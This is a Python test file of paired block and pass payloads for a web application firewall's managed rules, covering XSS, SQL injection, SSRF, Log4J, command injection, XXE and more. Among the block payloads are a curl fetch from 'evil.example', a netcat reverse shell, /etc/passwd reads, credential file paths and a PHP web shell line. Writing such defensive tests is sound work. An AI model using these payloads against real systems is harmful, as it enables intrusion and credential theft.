"""Should-block / should-pass payloads for every attack class of the managed rule groups.

Each class (``rules/managed/patterns.py``) becomes one rule per placement (``<Class>_<PLACEMENT>``);
``test_managed_rules`` puts each payload into every placement of its class and checks that the
rule of that placement labels the request (block) — or that no managed rule does (pass). Payloads
are URL-encoded where they are placed, so the decoding chains are exercised too. Pass payloads are
the innocent look-alikes real users send (issue 4: "False positives are a defect").
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Case:
    rule_class: str
    block: tuple[str, ...]
    allow: tuple[str, ...]


CASES: tuple[Case, ...] = (
    Case("SizeRestrictions", ("x" * 11000,), ("x" * 200,)),
    Case(
        "UserAgent_Scanner",
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)"),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:118.0) Gecko/20100101 Firefox/118.0", "curl/8.4.0"),
    ),
    Case(
        "CrossSiteScripting",
        ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
        ("a <= b", "I <3 this & that", "5 < 6 > 4"),
    ),
    Case(
        "CrossSiteScriptingGrammar",
        ("<svg/onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=confirm(1)>",
         "document/*x*/./*y*/cookie", "top[/*a*/'al'+'ert'](1)", "(document)['cookie']", "prompt()"),
        ("Use `<b>` for bold, e.g. a < b", "data:image/png;base64,iVBORw0KGgo=", "javascript is fun",
         "the document (signed) cookie policy", "top [10] picks", "confirm (yes/no)"),
    ),
    Case(
        "PathTraversal",
        ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//proc/self/environ"),
        ("see ../docs/readme.md", "/etc is a directory name", "1/2 cup"),
    ),
    Case(
        "RemoteFileInclusion",
        ("page=http://203.0.113.9/shell.txt?",),
        ("next=https://example.com/welcome",),
    ),
    Case(
        "SSRF",
        (
            "http://169.254.169.254/latest/meta-data/",
            "http://0x7f000001/admin",
            "http://2130706433:8080/",
            "gopher://127.0.0.1:6379/_INFO",
            "http://[::1]/",
        ),
        ("https://example.com/callback", "http://cdn.example.org/1.2.3.4/x.png", "v1.0.0.1 release"),
    ),
    Case(
        "HiddenPath",
        (".aws/credentials", ".ssh/id_rsa", ".claude/settings.json"),
        (".well-known/security.txt", "static/app.64db6ee7.js", "v1.2/notes"),
    ),
    Case(
        "SessionFixation",
        ("jsessionid=74B0CB41", "rack.session=BAh7CEki", "shop_login_token=x9", "cftoken=6789"),
        ("assessment=final", "sid=3", "q=session times", "possession of the ball", "obsession=none"),
    ),
    Case(
        "BodyCharsetEvasion",
        ("application/x-www-form-urlencoded; charset=ibm037", "text/plain; charset=utf-8; charset=utf-7"),
        ("application/json; charset=utf-8", "text/html; charset=ISO-8859-1"),
    ),
    Case(
        "MultipartEvasion",
        ('--b\r\nContent-Disposition: form-data; name="a;b"; filename="x"\r\n\r\nx\r\n--b--\r\n',),
        ('--b\r\nContent-Disposition: form-data; name="cv"; filename="cv.pdf"\r\n\r\nx\r\n--b--\r\n',),
    ),
    Case(
        "LDAPInjection",
        ("admin)(|(password=*", "*)(uid=*))(|(uid=*", "john)(sn~=smith"),
        ("(see above)", "Smith (née Jones)", "see chapter (2) notes"),
    ),
    Case(
        "SQLi",
        ("1' OR '1'='1", "-1' UNION SELECT password FROM users--"),
        ("O'Brien", "select the union of two sets", "drop me a line"),
    ),
    Case(
        "SQLiGrammar",
        (
            "1'/**/UNION/**/SELECT/**/1,2--",
            "1) /*!50000UNION*/ /*!50000SELECT*/ 1,2#",
            "1 AND SLEEP(5)",
            "'::jsonb @> '{}'",
            "1 or true",
            "MSysObjects",
            "x' union select name from master..sysdatabases",
            "current_database()",
        ),
        ("Back up the database (nightly)", "Microsoft Access sample databases", "our sys admins",
         "She said \"it's fine\" -- but it wasn't.", "We need a 1=1 mapping", "Cancel the union dues", "Size 10 or true to size?"),
    ),
    Case(
        "RequestSmuggling",
        ("x\r\nPOST /admin HTTP/1.1", "abcGET /b.html HTTP/1.0", "v=\nHEAD http://example.com/ HTTP/1.1"),
        ("use the GET verb over HTTP/1.1", "a budget of 5 http/2 calls", "POST /api/v1/users returns 201", "HTTP/2 get post head"),
    ),
    Case(
        "Log4JRCE",
        ("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:dns://x}", "${${::-j}${::-n}di:rmi://x/a}"),
        ("${HOME} is set", "price: $ {100}", "jndi is a Java API"),
    ),
    Case(
        "TemplateInjection",
        ("{{7*7}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "<%= 7*7 %>", "${7*7}"),
        ("Hello {{ name }}!", "{% raw %}", "a*b = 7*7"),
    ),
    Case(
        "CRLFInjection",
        ("\r\nSet-Cookie: session=attacker", "en\r\nLocation: http://evil.example/"),
        ("line one\r\nline two", "Location: Berlin"),
    ),
    Case(
        "CRLFInjectionBody",
        ("x\r\nSet-Cookie: a=b", "\r\nLocation: https://evil.example/"),
        ("Order notes\r\nDelivery: leave at the door", "first\r\nsecond"),
    ),
    Case(
        "NodeJSInjection",
        ('{"__proto__": {"isAdmin": true}}', "require('child_process').exec('id')", "_$$ND_FUNC$$_function(){}()", "while(true);", "new Function ("),
        ("While you wait, read this", "The __proto__ property is deprecated", "the child process of adoption", "Use `console.log(x)` to debug"),
    ),
    Case(
        "JavaDeserializationRCE",
        ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "java.lang.Runtime.getRuntime().exec('id')", "ProcessBuilder"),
        ("I love Java and coffee", "runtime error on page 3", "java coffee beans"),
    ),
    Case(
        "UNIXShellCommands",
        ("; cat /etc/passwd", "| id", "&& whoami", "$(curl http://evil.example/x.sh)", "; nc -e /bin/sh 10.0.0.1 4444",
         "; salt-call cmd.run id", "x; xzcat /var/log/auth.log.xz", "x=cd /;cd etc;head hosts", "tr a b <<< 'abc'"),
        ("bash guitar pedal", "Tom & Jerry", "cat food; dog food", "drop me a line", "salt & pepper",
         "python 3.10 release notes", "cd music; then play"),
    ),
    Case(
        "UNIXShellCommandsUnquoted",
        ("; w'h'o'am'i", "| c\\at /et\\c/pas\\swd"),
        ("who am I?", "the cat sat on the mat"),
    ),
    Case(
        "UNIXShellExpansion",
        ("cat${IFS}/etc/passwd", "/bi[n]/ba[s]h", "{cat,/etc/passwd}", "c$@at /e${x}tc/hosts"),
        ("filter[name]=shoes", "price ${total}", "{a: 1, b: 2}"),
    ),
    Case(
        "WindowsShellCommands",
        ("| type C:\\Windows\\win.ini", "& powershell -enc SQBFAFgA", "cmd.exe /c dir", "FOR /F %a IN (x) DO y",
         "& FOR /L /L %~ IN (1,1,9) DO cmd", "if/i x==y calc"),
        ("Windows 11 type cover", "the power shell of a turtle", "for a in list do x", "if a == b then c"),
    ),
    Case(
        "PHPHighRiskMethods",
        ("<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php", "$a(1)", "allow_url_include=1"),
        ("PHP developer wanted", "the system works", "$100 (approx)"),
    ),
    Case(
        "NoSQLOperators",
        ('{"user": {"$ne": null}}', "user[$ne]=x", '{"$where": "sleep(100)"}'),
        ('{"price": "$100"}', "where is my order?", '{"status": "ne"}'),
    ),
    Case(
        "XMLExternalEntity",
        ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',),
        ('<?xml version="1.0"?><order><id>42</id><note>&amp; more</note></order>',),
    ),
)
